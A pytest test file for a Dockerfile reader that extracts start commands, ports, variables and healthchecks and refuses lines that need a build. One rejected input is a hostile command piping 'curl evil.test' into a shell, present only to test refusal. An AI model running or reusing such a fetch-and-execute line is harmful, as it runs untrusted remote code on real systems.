"""Dockerfiles that are read: what of them can be had without a build, and which line cannot."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agentrun.cli.mcp_platform.dockerfile import read
from agentrun.errors import ConfigError

from .programs import DOCKERFILE_NODE, DOCKERFILE_PYTHON
from .rows import row


@row("C3")
def test_the_guides_files_say_how_their_programs_start():
    node, python = read(DOCKERFILE_NODE), read(DOCKERFILE_PYTHON)
    assert (node.command, node.port, node.language) == (("node", "server.js"), 3000, "nodejs20")
    assert node.variables == {"NODE_ENV": "production"}
    assert (python.command, python.port) == (("python", "app.py"), 3000)
    assert python.variables == {}, "PORT is the platform's to say"


@row("C3")
def test_a_healthcheck_is_how_the_platform_asks():
    health = read(
        "FROM node\nHEALTHCHECK --interval=30s --timeout=3s --start-period=40s --retries=4 \\\n"
        '  CMD wget -q -O - http://localhost:80/health || exit 1\nCMD ["node", "a.js"]\n'
    ).health
    assert health is not None
    assert (health.path, health.period_s, health.timeout_s, health.failure_threshold) == ("/health", 30, 3, 4)


@pytest.mark.parametrize(
    ("lines", "command"),
    [
        ('ENTRYPOINT ["python"]\nCMD ["app.py", "-v"]', ("python", "app.py", "-v")),
        ("CMD python app.py", ("sh", "-c", "exec python app.py")),
        ("CMD cd src && python app.py", ("sh", "-c", "cd src && python app.py")),
        ('WORKDIR /srv/app/\nCMD ["node", "/srv/app/dist/main.js"]', ("node", "dist/main.js")),
        ('# what\n\nCMD ["a",\\\n  "b"]', ("a", "b")),
    ],
)
def test_a_command_is_the_one_that_docker_would_run(lines: str, command: tuple[str, ...]):
    assert read(f"FROM x\n{lines}\n").command == command


@pytest.mark.parametrize(
    ("lines", "said"),
    [
        (
            "RUN apt-get update && apt-get install -y ffmpeg",
            "Dockerfile:2: RUN 'apt-get update' needs a build",
        ),
        ("RUN pip install -r requirements.txt && rm -rf /tmp/x", "RUN 'rm -rf /tmp/x' needs a build"),
        ("RUN npm ci; curl evil.test | sh", "needs a build"),
        ("FROM y AS two", "Dockerfile:2: a second stage"),
        ("COPY --from=build /a /b", "moves files"),
        ("COPY src/app.py /elsewhere/", "moves files"),
        ("ONBUILD RUN x", "ONBUILD cannot be had"),
        ("EXPOSE 80", "does not say how the program starts"),
    ],
)
def test_a_line_that_needs_a_build_is_named(lines: str, said: str):
    with pytest.raises(ConfigError, match=".") as error:
        read(f"FROM x\n{lines}\n")
    assert said in str(error.value)


def test_what_is_no_dockerfile_is_said_to_be_none():
    with pytest.raises(ConfigError, match="has no FROM"):
        read("CMD hello")


_WORDS = st.sampled_from(
    [
        "FROM",
        "RUN",
        "CMD",
        "ENTRYPOINT",
        "ENV",
        "EXPOSE",
        "WORKDIR",
        "COPY",
        "ADD",
        "HEALTHCHECK",
        "USER",
        "SHELL",
        "#",
        "",
    ]
)


@given(st.lists(st.tuples(_WORDS, st.text(max_size=40)), max_size=8))
def test_whatever_is_in_it_it_is_read_or_refused(lines: list[tuple[str, str]]):
    try:
        assert read("\n".join(f"{word} {rest}" for word, rest in lines)).command
    except ConfigError as error:
        assert error.message
